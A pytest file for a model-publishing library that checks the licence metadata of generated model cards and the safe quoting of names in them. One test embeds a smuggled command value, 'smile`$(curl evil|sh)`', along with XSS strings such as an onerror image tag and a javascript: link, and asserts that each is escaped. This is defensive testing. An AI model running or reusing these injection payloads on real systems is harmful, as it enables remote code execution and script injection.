"""Model cards of published files: licences, names, commands."""

import re
import shlex
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import torch

import latentloop as ll
from latentloop.editing.direction_file import save_directions
from latentloop.editing.strength import LICENCE as COMPUTED
from latentloop.editing.strength import make_direction
from latentloop.encoders import PRESETS, make_embedder, save_embedder
from latentloop.errors import UserError
from latentloop.generators import Generator
from latentloop.generators.registry import SHIPPED
from latentloop.publishing import PushOptions, set_up_push
from latentloop.publishing.card import is_untouched
from latentloop.publishing.licences import licence_named
from latentloop.publishing.markdown import code
from latentloop.weights import ASSETS
from small_generators import SmallGenerator

Run = Callable[..., tuple[int, list[str], list[str]]]
DIRECTIONS = ASSETS / "directions-ffhq.safetensors"


def metadata(card: str) -> dict[str, str]:
    head = re.match(r"---\n(.*?)\n---\n", card, flags=re.DOTALL)
    assert head
    return dict(line.split(": ", 1) for line in head[1].splitlines())


@pytest.mark.parametrize("name", ["mobile-ffhq-256.safetensors", "base-ffhq.safetensors"])
def test_the_terms_of_the_bundled_weights_are_carried_over_and_stay(name: str, run: Run) -> None:
    card = set_up_push(ASSETS / name, "anna/faces", PushOptions()).card
    assert card
    assert metadata(card)["license"] == '"other"'
    assert metadata(card)["license_name"] == '"non-commercial-research"'
    assert "for non-commercial research alone" in card
    code, _, errors = run("push", str(ASSETS / name), "anna/faces", "--licence", "mit", "--dry-run")
    assert code == 2
    assert "its licence is non-commercial-research, which stays; see --licence" in errors[0]


def test_a_network_for_the_bundled_generators_has_their_terms(small_generator: SmallGenerator, tmp_path: Path) -> None:
    generator = ll.load_generator(small_generator())
    fingerprint = SHIPPED["mobile-ffhq-256"].info.latent_space
    for wanted, licence in ((fingerprint, '"other"'), (generator.fingerprint, None)):
        network = make_embedder(PRESETS["small"], generator, seed=0)
        network.fingerprint = wanted
        save_embedder(tmp_path / "net.safetensors", network)
        card = set_up_push(tmp_path / "net.safetensors", "anna/net", PushOptions()).card
        assert card
        assert metadata(card).get("license") == licence


def test_directions_keep_their_own_licences() -> None:
    job = set_up_push(DIRECTIONS, "anna/ways", PushOptions())
    assert job.card
    assert metadata(job.card)["license"] == '"other"'
    assert metadata(job.card)["license_name"] == '"non-commercial-research"'
    assert "\n- mit: `age`, `smile`" in job.card
    assert "\n- NVIDIA Source Code License, non-commercial: `" in job.card
    assert "`smile`" in job.card
    assert "--set hf://anna/ways/directions-ffhq.safetensors:age=1" in job.card


def ways(path: Path, generator: Generator, *licences: str, **names: str) -> Path:
    """A file of directions of a generator, with these licences."""
    each = {f"way{i}": licence for i, licence in enumerate(licences)} | names
    one = make_direction(generator, "", torch.ones(generator.w_dim), 1.0, (0,), origin="", measured={})
    save_directions(path, [replace(one, name=name, licence=licence) for name, licence in each.items()])
    return path


@pytest.mark.parametrize("licences", [(COMPUTED,), ("MIT",), ("MIT", "unknown"), ("MIT", COMPUTED), ("",)])
def test_directions_of_the_bundled_generators_have_their_terms(
    small_generator: SmallGenerator, tmp_path: Path, licences: tuple[str, ...]
) -> None:
    generator = ll.load_generator(small_generator())
    generator.fingerprint = SHIPPED["mobile-ffhq-256"].info.latent_space
    path = ways(tmp_path / "ways.safetensors", generator, *licences)
    card = set_up_push(path, "anna/ways", PushOptions()).card
    assert card
    assert (metadata(card)["license"], metadata(card)["license_name"]) == ('"other"', '"non-commercial-research"')
    assert "for non-commercial research alone" in card
    assert ("\n- mit: `way0`\n" in card) == ("MIT" in licences)
    assert ("\n- none of its own: `way1`\n" in card) == (len(licences) == 2)
    assert COMPUTED not in card
    with pytest.raises(UserError, match="its licence is non-commercial-research, which stays"):
        set_up_push(path, "anna/ways", PushOptions(licence="mit"))


@pytest.mark.parametrize(
    ("own", "given", "licence", "listed"),
    [
        ((COMPUTED,), None, None, ""),
        ((COMPUTED, "unknown", ""), "CC-BY-4.0", "cc-by-4.0", ""),
        (("MIT", "mit"), None, "mit", ""),
        (("MIT", "unknown"), None, None, "- none of its own: `way1`\n- mit: `way0`\n"),
        (("MIT", "unknown"), "mit", "mit", ""),
        (("MIT", COMPUTED), "cc-by-4.0", "cc-by-4.0-and-mit", "- cc-by-4.0: `way1`\n- mit: `way0`\n"),
    ],
)
def test_directions_of_ones_own_generator(
    small_generator: SmallGenerator,
    tmp_path: Path,
    own: tuple[str, ...],
    given: str | None,
    licence: str | None,
    listed: str,
) -> None:
    path = ways(tmp_path / "ways.safetensors", ll.load_generator(small_generator()), *own)
    card = set_up_push(path, "anna/ways", PushOptions(licence=given)).card
    assert card
    about = metadata(card)
    assert about.get("license_name", about.get("license")) == (licence and f'"{licence}"')
    assert ("Not stated. Ask whoever trained it" in card) == (licence is None)
    assert listed in card
    assert ("The directions' own licences" in card) == bool(listed)


HOSTILE = "smile`$(curl evil|sh)`"


def test_a_card_runs_and_shows_names_as_they_are(small_generator: SmallGenerator, tmp_path: Path) -> None:
    terms = "<img src=x onerror=evil()> [here](javascript:evil) | `sh`"
    path = tmp_path / "my --><b>dirs|`.safetensors"
    ways(path, ll.load_generator(small_generator()), **{HOSTILE: terms, "it's": "MIT"})
    card = set_up_push(path, "anna/ways", PushOptions()).card
    assert card
    block = re.search(r"```bash\n(.*?)\n```\n", card, flags=re.DOTALL)
    assert block
    install, use = block[1].splitlines()
    assert shlex.split(install) == ["pip", "install", "latentloop[hub]"]
    address = f"hf://anna/ways/{path.name}"
    words = ["latentloop", "edit", "photo.jpg", "--set", f"{address}:{HOSTILE}=1", "--generator", "GENERATOR"]
    lexer = shlex.shlex(use, posix=True, punctuation_chars=True)  # in which an unquoted | or ( is a word of its own
    lexer.whitespace_split = True
    assert list(lexer) == words
    assert "'" in use
    assert f"\nIt has `` {HOSTILE} ``, `it's`.\n" in card
    assert "| file | ``my --><b>dirs\\|`.safetensors`` |" in card
    assert r"# my --\>\<b\>dirs\|\`" in card
    assert r"- \<img src=x onerror=evil()\> \[here\](javascript:evil) \| \`sh\`: " in card
    assert card.splitlines()[-1].count("-->") == 1
    assert is_untouched(card, path.name)


def test_a_file_with_a_space_is_one_word(small_generator: SmallGenerator, tmp_path: Path) -> None:
    path = ways(tmp_path / "my dirs.safetensors", ll.load_generator(small_generator()), "MIT")
    card = set_up_push(path, "anna/ways", PushOptions()).card
    assert card
    assert "--set 'hf://anna/ways/my dirs.safetensors:way0=1'" in card
    generator = small_generator(name="my cats")
    card = set_up_push(generator, "anna/cats", PushOptions()).card
    assert card
    assert "latentloop embed photo.jpg --generator 'hf://anna/cats/my cats.safetensors'\n" in card
    assert is_untouched(card, "my cats.safetensors")


@pytest.mark.parametrize(
    ("text", "markdown"),
    [("a", "`a`"), ("a`b", "``a`b``"), ("``", "``` `` ```"), ("`a``b", "``` `a``b ```"), (" a", "`  a `")],
)
def test_code_is_code_whatever_backticks_it_has(text: str, markdown: str) -> None:
    assert code(text) == markdown


def test_a_licence_can_be_given_where_there_is_none(small_generator: SmallGenerator) -> None:
    path = small_generator()
    unknown, given = (set_up_push(path, "anna/cats", PushOptions(licence=name)).card for name in (None, "CC-BY-4.0"))
    assert unknown
    assert given
    assert "license" not in metadata(unknown)
    assert "Not stated. Ask whoever trained it" in unknown
    assert metadata(given)["license"] == '"cc-by-4.0"'


def test_a_licence_that_the_hub_does_not_know_is_named_beside() -> None:
    assert licence_named("My Own Terms, v2").metadata == {"license": "other", "license_name": "my-own-terms-v2"}
    with pytest.raises(UserError, match="not the name of a licence"):
        licence_named("...")
